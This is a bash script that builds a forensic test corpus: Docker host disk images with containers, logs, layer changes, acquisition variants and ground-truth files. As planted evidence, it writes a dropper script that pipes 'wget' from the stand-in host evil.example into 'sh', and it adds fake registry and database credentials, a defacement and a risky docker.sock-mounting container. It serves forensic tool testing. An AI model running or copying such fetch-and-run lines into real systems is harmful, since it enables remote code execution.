# Scenarios of the real-engine corpus (sourced by build-real-host.sh).
# The docker client runs on the build machine against the namespace's socket (function d);
# everything the daemon writes lands in the image's filesystem. Every docker command is also
# appended to $WORK/cmds-<host>.log, which becomes scenario.md and the hosts' .bash_history.

# dl HOST ARGS...: run docker and record the command line
dl() {
    local h=$1; shift
    local a=("${@//$WORK\/mnt-?/}")      # host paths as seen inside the host (/root/build/...)
    [ "$1" = build ] && printf 'DOCKER_BUILDKIT=0 ' >>"$WORK/cmds-$h.log"
    printf 'docker' >>"$WORK/cmds-$h.log"
    printf ' %q' "${a[@]}" >>"$WORK/cmds-$h.log"
    printf '\n' >>"$WORK/cmds-$h.log"
    d "$@"
}
fact() { printf '%s\t%s\n' "$2" "$3" >>"$WORK/meta-$1.facts"; }

# base_meta VARIANT DISK DATAROOT DRIVER ACQ NOTES PARTSPEC...  (PARTSPEC = index:mountpoint)
base_meta() {
    local v=$1 disk=$2 dr=$3 drv=$4 acq=$5 notes=$6; shift 6
    local parts="" spec i mp s e sep=""
    for spec in "$@"; do
        i=${spec%%:*}; mp=${spec#*:}
        if [ "$i" = 0 ]; then s=0; e=$(( $(stat -c %s "$disk") / SECTOR - 1 ))
        else read -r s e < <(part_range "$disk" "$i"); fi
        parts+="$sep{\"index\":$i,\"start_sector\":$s,\"offset_bytes\":$((s*SECTOR)),\"size_bytes\":$(((e-s+1)*SECTOR)),\"fs\":\"ext4\",\"mountpoint\":\"$mp\"}"
        sep=","
    done
    local pt=gpt; [ "$1" = "0:/" ] && pt=none
    jq -n --arg v "$v" --arg dr "$dr" --arg drv "$drv" --arg acq "$acq" --arg notes "$notes" \
        --arg pt "$pt" --argjson parts "[$parts]" --argjson size "$(stat -c %s "$disk")" \
        '{variant:$v, image_file:($v+".raw.xz"), disk_size_bytes:$size, partition_table:$pt,
          sector_size:512, partitions:$parts, data_root:$dr, storage_driver:$drv,
          acquisition:$acq, notes:$notes}' >"$WORK/meta-$v.json"
}
# finish_truth VARIANT IMAGE BASEHOST: states-after + meta.json into OUT/VARIANT.truth
finish_truth() {
    local v=$1 img=$2 h=$3
    [ -f "$WORK/meta-$h.facts" ] && cp "$WORK/meta-$h.facts" "$WORK/meta-$v.facts"
    python3 "$LIB/truth.py" after "$img" "$OUT/$v.truth" "$WORK/meta-$v.json"
    info "$v: $(jq -c '[.partitions[]|{index,offset_bytes,needs_recovery}]' "$OUT/$v.truth/meta.json") data_root=$(jq -r .data_root "$OUT/$v.truth/meta.json")"
}
capture() {  # capture VARIANT
    rm -rf "$OUT/$1.truth"
    python3 "$LIB/truth.py" capture "$SOCK" "$OUT/$1.truth"
}
wait_exit() { local c; for c in "$@"; do d wait "$c" >/dev/null; done; }
copy_frozen() {  # copy_frozen SRC DST MNT...
    local src=$1 dst=$2; shift 2
    sync
    local m; for m in "$@"; do fsfreeze -f "$m"; push_clean "fsfreeze -u $m"; done
    cp --sparse=always "$src" "$dst"
    for m in "$@"; do fsfreeze -u "$m"; pop_clean; done
}
detach_disk() {  # detach_disk MNT... LOOPDEV... (unmount innermost first)
    local x
    for x in "$@"; do
        case $x in
            /dev/loop*) detach_loop "$x" || die "cannot detach $x" ;;
            *) umount_retry "$x" ;;
        esac
    done
    # drop the matching cleanup entries (they were pushed in creation order)
    local n=$#; while [ "$n" -gt 0 ]; do pop_clean; n=$((n-1)); done
}

write_registry_config() {
    mkdir -p "$1/data"
    cat >"$1/config.yml" <<'EOF'
version: 0.1
log:
  level: warn
storage:
  filesystem:
    rootdirectory: /run/registry/data
  delete:
    enabled: true
http:
  addr: 127.0.0.1:5000
EOF
}

# ============================================================================ host A
build_host_a() {
    local R=$WORK/mnt-a disk=$WORK/host-a.raw dev
    step "host A: disk, filesystem, host root"
    new_disk "$disk" 256
    loop_part "$disk" 1 dev
    mkfs_quiet "$dev" host-a-root
    mount_dev "$dev" "$R"
    make_host_root "$R" host-a
    cat >"$R/etc/docker/daemon.json" <<'EOF'
{
  "exec-opts": ["native.cgroupdriver=cgroupfs"],
  "storage-driver": "overlay2",
  "log-driver": "json-file",
  "log-opts": {"max-size": "10m", "max-file": "3"},
  "insecure-registries": ["127.0.0.1:5000"]
}
EOF
    printf '{\n\t"auths": {\n\t\t"registry.corp.example:5000": {\n\t\t\t"auth": "%s"\n\t\t}\n\t}\n}\n' \
        "$(printf 'deploy:Sup3r-S3cret-Pa55' | base64)" >"$R/root/.docker/config.json"
    chmod 600 "$R/root/.docker/config.json"
    mkdir -p "$R/srv/www-static" "$R/root/build/app" "$R/root/build/tool" "$R/root/build/gone"
    printf '<h1>static content (read-only bind mount)</h1>\n' >"$R/srv/www-static/index.html"
    printf 'User-agent: *\nDisallow: /\n' >"$R/srv/www-static/robots.txt"
    printf 'Welcome to the app image (COPY layer)\n' >"$R/root/build/app/motd.txt"
    cat >"$R/root/build/app/Dockerfile" <<'EOF'
FROM local/base:1
LABEL org.dof.role="web" org.dof.tier="test"
ENV APP_HOME=/srv/app APP_MODE=test
RUN mkdir -p /srv/app /www && echo "config v1" > /srv/app/config.txt && echo "secret-token-1234" > /srv/app/secret.txt && echo "<h1>dof app</h1>" > /www/index.html
COPY motd.txt /etc/motd
RUN echo "config v2" >> /srv/app/config.txt && mkdir -p /srv/app/cache && echo c1 > /srv/app/cache/a && echo c2 > /srv/app/cache/b
RUN rm /srv/app/secret.txt
EXPOSE 80/tcp
VOLUME /data
WORKDIR /srv/app
CMD ["httpd", "-f", "-v", "-p", "80", "-h", "/www"]
EOF
    cat >"$R/root/build/tool/Dockerfile" <<'EOF'
FROM local/base:1
RUN mkdir -p /opt/tool && echo "tool v1" > /opt/tool/VERSION
CMD ["cat", "/opt/tool/VERSION"]
EOF
    cat >"$R/root/build/gone/Dockerfile" <<'EOF'
FROM local/base:1
RUN echo "this image will be removed" > /gone.txt
CMD ["cat", "/gone.txt"]
EOF
    write_registry_config "$WORK/registry"
    : >"$WORK/cmds-a.log"

    step "host A: boot (unshare + pivot_root; containerd, dockerd, registry)"
    boot_host "$R" host-a "$WORK/registry"
    for _ in $(seq 50); do ns busybox wget -q -O /dev/null http://127.0.0.1:5000/v2/ 2>/dev/null && break; sleep 0.2; done

    step "host A: images (import, build, push/rmi/pull)"
    tar -C "$WORK/bb" -c . | dl a import -m "busybox-static rootfs" - local/base:1 >/dev/null
    DOCKER_BUILDKIT=0 dl a build -q -t local/app:2 "$R/root/build/app" >/dev/null
    DOCKER_BUILDKIT=0 dl a build -q -t 127.0.0.1:5000/dof/tool:1 "$R/root/build/tool" >/dev/null
    DOCKER_BUILDKIT=0 dl a build -q -t local/gone:1 "$R/root/build/gone" >/dev/null
    dl a push -q 127.0.0.1:5000/dof/tool:1 >/dev/null
    fact a pushed_image_id_before_rmi "$(d image inspect -f '{{.Id}}' 127.0.0.1:5000/dof/tool:1)"
    dl a rmi 127.0.0.1:5000/dof/tool:1 >/dev/null
    dl a pull -q 127.0.0.1:5000/dof/tool:1 >/dev/null

    step "host A: networks, volumes, containers"
    dl a network create --subnet 172.30.0.0/24 --label com.example.net=backend backend >/dev/null
    dl a volume create --label com.example.backup=daily webdata >/dev/null
    dl a run -d --name web --hostname web --restart unless-stopped -p 8080:80 \
        -v webdata:/data -v /srv/www-static:/www/static:ro \
        -e APP_ENV=production -e DB_PASSWORD=hunter2 \
        --label com.example.owner=ops --label com.example.tier=frontend \
        local/app:2 sh -c 'echo "web starting on port 80"; echo "web: stderr warning" >&2; exec httpd -f -v -p 80 -h /www' >/dev/null
    dl a network connect backend web
    dl a run -d --name worker --network backend local/app:2 \
        sh -c 'i=0; while [ $i -lt 5 ]; do i=$((i+1)); echo "tick $i" >> /data/ticks.log; echo "worker tick $i"; done; exec sleep 100000' >/dev/null
    dl a run -d --name logger local/base:1 sh -c 'echo "out line 1"; echo "err line 1" >&2; printf "BIG:"; head -c 20000 /dev/zero | tr "\0" "A"; echo; echo "out line 2"; echo "err line 2" >&2' >/dev/null
    dl a run -d --name rotator --log-opt max-size=1k --log-opt max-file=3 --log-opt compress=true \
        local/base:1 sh -c 'i=0; while [ $i -lt 120 ]; do i=$((i+1)); echo "rotating log line $i padding-padding-padding"; done' >/dev/null
    dl a run -d --name locallog --log-driver local local/base:1 \
        sh -c 'echo "local driver stdout 1"; echo "local driver stderr 1" >&2; echo "local driver stdout 2"' >/dev/null
    dl a run -d --name failer local/base:1 sh -c 'echo "about to fail" >&2; exit 3' >/dev/null
    dl a run -d --name stopper local/base:1 sleep 100000 >/dev/null
    dl a create --name created -e NEVER=started local/base:1 echo never-run >/dev/null
    dl a run -d --name paused local/base:1 sh -c 'echo "paused container running"; exec sleep 100000' >/dev/null
    # --privileged cannot start here (the build machine's bounding set lacks CAP_SYS_RESOURCE,
    # runc: "unable to apply caps"): the attempt leaves a real failed-start container.
    if dl a run -d --name privileged --privileged --pid host --cap-add SYS_ADMIN \
        -v /var/run/docker.sock:/var/run/docker.sock local/base:1 sleep 100000 >/dev/null 2>"$WORK/priv.err"; then
        fact a privileged_started true
    else
        fact a privileged_started false
        fact a privileged_start_error "$(tr '\n' ' ' <"$WORK/priv.err")"
    fi
    dl a run -d --name risky --pid host --cap-add SYS_ADMIN --security-opt seccomp=unconfined \
        -v /var/run/docker.sock:/var/run/docker.sock -v /:/host:ro local/base:1 sleep 100000 >/dev/null
    dl a run -d --name tool 127.0.0.1:5000/dof/tool:1 >/dev/null
    dl a run -d --name gone local/gone:1 >/dev/null
    dl a run --rm --name ephemeral local/base:1 sh -c 'echo "ephemeral --rm container"' >/dev/null
    wait_exit logger rotator locallog failer tool gone
    dl a stop -t 1 stopper >/dev/null
    fact a removed_container_id "$(d inspect -f '{{.Id}}' gone)"
    fact a removed_container_name gone
    fact a removed_image_ref local/gone:1
    fact a removed_image_id "$(d image inspect -f '{{.Id}}' local/gone:1)"
    dl a rm gone >/dev/null
    dl a rmi local/gone:1 >/dev/null
    dl a pause paused >/dev/null
    fact a rm_container_name ephemeral
    fact a pulled_image_ref 127.0.0.1:5000/dof/tool:1
    fact a registry "127.0.0.1:5000 (docker-registry 2.8 inside the namespace; storage on tmpfs, not in the image)"
    fact a published_port "web 0.0.0.0:8080->80/tcp"
    fact a user_network backend
    fact a named_volume webdata
    fact a anonymous_volume_container worker

    step "host A: docker exec activity in web"
    local E=(dl a exec web sh -c)
    "${E[@]}" 'mkdir -p /srv/app/uploads && echo "user upload" > /srv/app/uploads/report.txt'
    "${E[@]}" 'echo "<h1>defaced</h1>" > /www/index.html'
    "${E[@]}" 'echo "config v3 (container)" >> /srv/app/config.txt'
    "${E[@]}" 'rm /etc/motd'
    "${E[@]}" 'rm -rf /srv/app/cache && mkdir /srv/app/cache && echo fresh > /srv/app/cache/fresh'
    "${E[@]}" 'mkdir -p /tmp/.x && printf "#!/bin/sh\nwget -q -O- http://evil.example/p | sh\n" > /tmp/.x/dropper.sh && chmod 755 /tmp/.x/dropper.sh'
    "${E[@]}" 'ln -s /srv/app/uploads/very/long/target/path/that/is/definitely/longer/than/sixty/bytes/payload.bin /srv/app/longlink'
    "${E[@]}" 'cd /srv/app/uploads && touch "name with space" "pipe|name" "$(printf "new\nline")" "$(printf "bad\377\376name")"'
    "${E[@]}" 'echo "volume data" > /data/web.db'
    dl a exec worker sh -c 'echo "exec in worker" >> /data/exec.txt'
    ns busybox wget -q -O /dev/null http://127.0.0.1:8080/ || true
    ns busybox wget -q -O /dev/null http://127.0.0.1:8080/static/robots.txt || true
    ns busybox wget -q -O /dev/null http://127.0.0.1:8080/missing 2>/dev/null || true
    cp "$WORK/cmds-a.log" "$R/root/.bash_history"; chmod 600 "$R/root/.bash_history"
    printf 'docker ps\ndocker logs web\ndocker exec -it web sh\n' >"$R/home/alice/.bash_history"
    chown 1000:1000 "$R/home/alice/.bash_history"
    sleep 1    # let the rotator's compression and the access logs settle

    step "host A: live acquisition (truth, sync, fsfreeze, cp --sparse)"
    capture host-a-live
    copy_frozen "$disk" "$WORK/host-a-live.raw" "$R"

    step "host A: dirty acquisition (cp while a container writes, no freeze)"
    capture host-a-dirty
    d exec -d worker sh -c 'i=0; while [ $i -lt 400 ]; do i=$((i+1)); dd if=/dev/zero of=/data/churn.bin bs=64k count=16 2>/dev/null; echo $i > /data/churn.count; done'
    sleep 0.3
    cp --sparse=always "$disk" "$WORK/host-a-dirty.raw"
    sleep 1

    step "host A: clean acquisition (stop containers, truth, SIGTERM dockerd)"
    dl a unpause paused >/dev/null
    dl a stop -t 2 web worker paused risky >/dev/null
    capture host-a-clean
    stop_host_term
    detach_disk "$R" "$dev"
    cp --sparse=always "$disk" "$WORK/host-a-clean.raw"

    step "host A: killed acquisition (second boot, containers started, SIGKILL ns init)"
    loop_part "$disk" 1 dev
    mount_dev "$dev" "$R"
    boot_host "$R" host-a "$WORK/registry"
    dl a start web worker risky paused >/dev/null
    dl a pause paused >/dev/null
    dl a exec web sh -c 'echo "after reboot" > /srv/app/uploads/after-reboot.txt'
    sleep 1
    capture host-a-killed
    kill_host
    detach_disk "$R" "$dev"
    cp --sparse=always "$disk" "$WORK/host-a-killed.raw"

    step "host C: bare filesystem (partition 1 of host-a-clean dd'ed out)"
    local s e
    read -r s e < <(part_range "$WORK/host-a-clean.raw" 1)
    dd if="$WORK/host-a-clean.raw" of="$WORK/host-c-barefs.raw" bs=512 skip="$s" count=$((e-s+1)) conv=sparse status=none iflag=fullblock
    rm -rf "$OUT/host-c-barefs.truth"; cp -a "$OUT/host-a-clean.truth" "$OUT/host-c-barefs.truth"

    step "host A/C: ground truth after acquisition"
    base_meta host-a-live "$WORK/host-a-live.raw" /var/lib/docker overlay2 \
        "live: sync; fsfreeze -f; cp --sparse=always; fsfreeze -u (containers running, web/worker/risky running, paused paused)" \
        "truth captured just before the freeze; the frozen copy has a clean journal" 1:/
    base_meta host-a-dirty "$WORK/host-a-dirty.raw" /var/lib/docker overlay2 \
        "dirty: cp --sparse=always of the mounted filesystem without freeze while a docker exec in worker rewrote /data/churn.bin (anonymous volume)" \
        "truth captured before the churn started: the churn files in worker's anonymous volume (/data/churn.bin, /data/churn.count) and the exec are not in it; the journal needs recovery and TSK does not replay it" 1:/
    base_meta host-a-clean "$WORK/host-a-clean.raw" /var/lib/docker overlay2 \
        "clean: docker unpause/stop of running containers, truth, SIGTERM to dockerd, then containerd; umount; cp" \
        "all containers exited; states-after equals the State in containers.json" 1:/
    base_meta host-a-killed "$WORK/host-a-killed.raw" /var/lib/docker overlay2 \
        "killed: second boot of host-a after the clean acquisition; docker start web worker risky paused; docker pause paused; truth; SIGKILL to the namespace's PID 1 (power cut for dockerd, containerd and all containers); the host then unmounts the filesystem (journal clean)" \
        "config.v2.json still says Running:true (and Paused:true for paused) for the 4 started containers" 1:/
    base_meta host-c-barefs "$WORK/host-c-barefs.raw" /var/lib/docker overlay2 \
        "bare ext4: partition 1 of host-a-clean copied out with dd (no partition table, filesystem at offset 0)" \
        "same filesystem and truth as host-a-clean" 0:/
    local v
    for v in host-a-live host-a-dirty host-a-clean host-a-killed host-c-barefs; do
        finish_truth "$v" "$WORK/$v.raw" a
        compress_async "$v"
    done
    [ "$(jq .journal_needs_recovery "$OUT/host-a-dirty.truth/meta.json")" = true ] || die "host-a-dirty: needs_recovery not set"
    rm -f "$disk"
}

# ============================================================================ host B
build_host_b() {
    local R=$WORK/mnt-b disk=$WORK/host-b-dataroot.raw dev1 dev2
    step "host B: two partitions, data-root on /srv/docker (partition 2)"
    new_disk "$disk" 256 128
    loop_part "$disk" 1 dev1; loop_part "$disk" 2 dev2
    mkfs_quiet "$dev1" host-b-root; mkfs_quiet "$dev2" host-b-docker
    mount_dev "$dev1" "$R"
    make_host_root "$R" host-b
    mkdir -p "$R/srv/docker"
    mount_dev "$dev2" "$R/srv/docker"
    rmdir "$R/var/lib/docker"
    printf '# data partition for docker\nLABEL=host-b-docker /srv/docker ext4 defaults 0 2\n' >"$R/etc/fstab"
    cat >"$R/etc/docker/daemon.json" <<'EOF'
{
  "exec-opts": ["native.cgroupdriver=cgroupfs"],
  "data-root": "/srv/docker"
}
EOF
    : >"$WORK/cmds-b.log"
    boot_host "$R" host-b
    tar -C "$WORK/bb" -c . | dl b import - local/base:1 >/dev/null
    dl b volume create bdata >/dev/null
    dl b run -d --name app -p 8081:80 -v bdata:/data --label role=app local/base:1 \
        sh -c 'echo "app on data-root host"; echo hello > /data/hello.txt; mkdir -p /www; echo hi > /www/index.html; exec httpd -f -p 80 -h /www' >/dev/null
    dl b run -d --name job local/base:1 sh -c 'echo "job done"; echo "job warning" >&2; echo artefact > /job.out' >/dev/null
    wait_exit job
    dl b exec app sh -c 'rm /etc/issue && echo added > /root/added.txt'
    cp "$WORK/cmds-b.log" "$R/root/.bash_history"
    sleep 0.5
    dl b stop -t 1 app >/dev/null
    capture host-b-dataroot
    stop_host_term
    detach_disk "$R/srv/docker" "$R" "$dev2" "$dev1"
    cp --sparse=always "$disk" "$WORK/host-b-dataroot.raw.tmp"; mv "$WORK/host-b-dataroot.raw.tmp" "$disk"
    base_meta host-b-dataroot "$disk" /srv/docker overlay2 \
        "clean: containers stopped, truth, SIGTERM dockerd; both filesystems unmounted" \
        "daemon.json data-root=/srv/docker on partition 2 (mounted at /srv/docker, see /etc/fstab on partition 1); /var/lib/containerd stays on partition 1; there is no /var/lib/docker" \
        1:/ 2:/srv/docker
    finish_truth host-b-dataroot "$disk" b
    compress_async host-b-dataroot
}

# ============================================================================ host D
build_host_d() {
    local R=$WORK/mnt-d disk=$WORK/host-d-overlay.raw dev
    step "host D: legacy overlay (v1) storage driver"
    new_disk "$disk" 256
    loop_part "$disk" 1 dev
    mkfs_quiet "$dev" host-d-root
    mount_dev "$dev" "$R"
    make_host_root "$R" host-d
    cat >"$R/etc/docker/daemon.json" <<'EOF'
{
  "exec-opts": ["native.cgroupdriver=cgroupfs"],
  "storage-driver": "overlay"
}
EOF
    mkdir -p "$R/root/build/ov"
    cat >"$R/root/build/ov/Dockerfile" <<'EOF'
FROM local/base:1
RUN mkdir -p /app/dir && echo one > /app/file.txt && echo keep > /app/dir/k && echo del > /app/del.txt
RUN echo two >> /app/file.txt && rm /app/del.txt
ENV MODE=overlay1
CMD ["sleep", "100000"]
EOF
    : >"$WORK/cmds-d.log"
    boot_host "$R" host-d
    tar -C "$WORK/bb" -c . | dl d import - local/base:1 >/dev/null
    DOCKER_BUILDKIT=0 dl d build -q -t local/ov:1 "$R/root/build/ov" >/dev/null
    dl d run -d --name ovweb local/ov:1 >/dev/null
    dl d exec ovweb sh -c 'echo three >> /app/file.txt && rm /etc/issue && rm -rf /app/dir && mkdir /app/dir && echo new > /app/dir/n && echo added > /app/added.txt'
    dl d run -d --name ovjob local/ov:1 sh -c 'echo "overlay job"; echo "overlay job err" >&2; exit 1' >/dev/null
    wait_exit ovjob
    cp "$WORK/cmds-d.log" "$R/root/.bash_history"
    dl d stop -t 1 ovweb >/dev/null
    capture host-d-overlay
    stop_host_term
    detach_disk "$R" "$dev"
    base_meta host-d-overlay "$disk" /var/lib/docker overlay \
        "clean: containers stopped, truth, SIGTERM dockerd" \
        "legacy overlay (v1) driver: image layers are full trees in overlay/<id>/root, containers are overlay/<id>/upper over lower-id" 1:/
    finish_truth host-d-overlay "$disk" d
    compress_async host-d-overlay
}

# ============================================================================ scenario.md
write_scenario_md() {
    local f=$OUT/scenario.md
    cat >"$f" <<'EOF2'
# Real-engine corpus: what the scenario did

Generated by `images/build-real-host.sh`; the command lists at the end are the exact docker
commands run (also written to each host's `/root/.bash_history`). Expected values for tests
come from the `<variant>.truth/` files, never from this text.

## Host A (`host-a-live`, `host-a-dirty`, `host-a-clean`, `host-a-killed`; `host-c-barefs` = partition 1 of host-a-clean)

Host root on partition 1 (ext4, label host-a-root): `/etc/docker/daemon.json` (overlay2,
json-file max-size 10m/max-file 3, insecure-registries 127.0.0.1:5000, cgroupfs),
`/etc/group` (`docker:x:999:alice`), `/root/.docker/config.json` (fake credential for
`registry.corp.example:5000`, user `deploy`, password `Sup3r-S3cret-Pa55`),
`/root/.bash_history` (the docker commands below), `/home/alice/.bash_history`,
`/srv/www-static/{index.html,robots.txt}` (read-only bind source), `/root/build/{app,tool,gone}/Dockerfile`.

Images: `local/base:1` (docker import of the busybox-static rootfs), `local/app:2` (classic
builder, Dockerfile in `/root/build/app`: `/srv/app/config.txt` written in one RUN layer and
appended in a later RUN layer; `/srv/app/secret.txt` created then deleted by a later RUN =
image-layer whiteout; COPY of `/etc/motd`; LABEL, ENV, EXPOSE 80, VOLUME /data, WORKDIR, CMD),
`127.0.0.1:5000/dof/tool:1` (built, pushed to the local registry, `docker rmi`, pulled back:
RepoDigests and `image/overlay2/distribution/` are real), `local/gone:1` (removed with `docker
rmi` after its container `gone` was removed with `docker rm`: ids in meta.json `facts`).

Containers:
| name | image | what | state in live/dirty | clean | killed |
|---|---|---|---|---|---|
| web | local/app:2 | httpd, `-p 8080:80`, named volume `webdata:/data`, `/srv/www-static:/www/static:ro`, env `APP_ENV`, `DB_PASSWORD`, labels, restart unless-stopped, also on network `backend`; docker exec changes below; 3 HTTP requests (stderr access log) | running | exited (137) | running |
| worker | local/app:2 | network `backend`, anonymous volume on /data, 5 ticks on stdout then sleep | running | exited (137) | running |
| logger | local/base:1 | stdout+stderr lines, one 20004-byte stdout line (`BIG:` + 20000 `A`) split into partial messages | exited 0 | same | same |
| rotator | local/base:1 | json-file max-size=1k max-file=3 compress=true, 120 lines: rotated `-json.log.1.gz`, `.2.gz` | exited 0 | same | same |
| locallog | local/base:1 | `--log-driver local`, 2 stdout + 1 stderr line | exited 0 | same | same |
| failer | local/base:1 | stderr line, `exit 3` | exited 3 | same | same |
| stopper | local/base:1 | `sleep`, `docker stop -t 1` | exited 137 | same | same |
| created | local/base:1 | `docker create`, never started | created | same | same |
| paused | local/base:1 | `docker pause` | paused | exited (137, unpaused+stopped) | paused |
| privileged | local/base:1 | `--privileged --pid host --cap-add SYS_ADMIN -v /var/run/docker.sock:/var/run/docker.sock`: start failed on the build machine (see README), so it is a *created* container with ExitCode 128 and State.Error set | created (failed start) | same | same |
| risky | local/base:1 | `--pid host --cap-add SYS_ADMIN --security-opt seccomp=unconfined -v /var/run/docker.sock:/var/run/docker.sock -v /:/host:ro` | running | exited (137) | running |
| tool | 127.0.0.1:5000/dof/tool:1 | pulled image, prints its VERSION | exited 0 | same | same |
| gone | local/gone:1 | ran, then `docker rm`, image `docker rmi` | (removed) | | |
| ephemeral | local/base:1 | `docker run --rm` | (removed) | | |

Changes made in `web` with `docker exec` (container layer = overlay2 upper dir):
- added `/srv/app/uploads/report.txt` (and dir `/srv/app/uploads`)
- modified image file `/www/index.html`
- `/srv/app/config.txt` (changed in two image layers) appended again
- deleted `/etc/motd` (whiteout: char device 0/0 in the upper dir)
- `rm -rf /srv/app/cache; mkdir /srv/app/cache; echo fresh > /srv/app/cache/fresh` (opaque directory, `trusted.overlay.opaque=y`)
- executable `/tmp/.x/dropper.sh` (mode 0755)
- symlink `/srv/app/longlink` -> `/srv/app/uploads/very/long/target/path/that/is/definitely/longer/than/sixty/bytes/payload.bin` (93 bytes)
- names in `/srv/app/uploads/`: `name with space`, `pipe|name`, `new\nline` (a real newline), `bad\xff\xfename` (non-UTF-8; the API reports it with U+FFFD)
- `/data/web.db` in the named volume `webdata` (not a container-layer change)
- worker: `/data/exec.txt` in its anonymous volume
- killed only: `/srv/app/uploads/after-reboot.txt` in web (second boot)
- dirty only: after the truth was captured, `docker exec -d worker` rewrote `/data/churn.bin` (1 MiB zeros, 400 times) and `/data/churn.count` in worker's anonymous volume during the copy.

Acquisition order on host A: live (truth, freeze, copy) -> dirty (truth, churn, copy) ->
clean (unpause, stop web worker paused risky, truth, SIGTERM, unmount, copy) -> second boot
of the same disk: start web worker risky paused, pause paused, one exec in web, truth,
SIGKILL the namespace's PID 1 -> unmount -> killed copy.

## Host B (`host-b-dataroot`)
Partition 1 = host root (no /var/lib/docker; `/etc/fstab` names partition 2), partition 2 =
Docker data root mounted at `/srv/docker` (`"data-root": "/srv/docker"`). Containers `app`
(httpd, `-p 8081:80`, named volume `bdata`, exec: deleted `/etc/issue`, added
`/root/added.txt`; stopped by hand -> 137) and `job` (exited 0, stdout+stderr, wrote
`/job.out`). Clean stop.

## Host D (`host-d-overlay`)
`"storage-driver": "overlay"` (legacy overlay v1). Image `local/ov:1` (FROM local/base:1;
RUN creates `/app/file.txt`, `/app/dir/k`, `/app/del.txt`; next RUN appends to file.txt and
deletes del.txt). Containers `ovweb` (exec: appended `/app/file.txt`, deleted `/etc/issue`,
`/app/dir` deleted and re-created with `n` = opaque, added `/app/added.txt`; stopped -> 137)
and `ovjob` (exit 1, stdout+stderr). Clean stop.
EOF2
    local h
    for h in a b d; do
        printf '\n## Commands run on host %s\n\n```\n' "${h^^}" >>"$f"
        cat "$WORK/cmds-$h.log" >>"$f"
        printf '```\n' >>"$f"
    done
}
